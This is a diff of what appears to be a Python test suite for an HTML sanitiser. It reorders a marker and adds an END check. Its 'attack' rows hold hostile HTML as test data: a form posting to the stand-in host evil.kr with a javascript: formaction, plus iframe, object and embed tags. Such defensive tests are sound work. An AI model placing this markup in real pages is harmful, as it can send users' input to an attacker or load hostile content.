@@ -33,7 +33,7 @@ def written(title: str, make: Callable[[], bytes]) -> Row:
 
 def attack(title: str, body: bytes, *checks: Check) -> Row:
     """Row 66: nothing of it runs, nothing is loaded, what it says stays."""
-    return Row(66, title, lambda: html(body + KEEP), (keeps(), harmless, *checks), 0.2)
+    return Row(66, title, lambda: html(KEEP + body), (keeps(), harmless, *checks), 0.2)
 
 
 def _is_harmless(shown: str) -> bool:
@@ -116,7 +116,8 @@ ROWS = (
     ),
     attack(
         "a form",
-        b'<form action="https://evil.kr"><input name=p><button formaction=javascript:x>x</form>',
+        b'<form action="https://evil.kr"><input name=p><button formaction=javascript:x>x</form>END',
+        keeps(b"END"),
     ),
     attack(
         "a frame", b'<iframe src="https://evil.kr"></iframe><object data=x></object><embed src=x>'
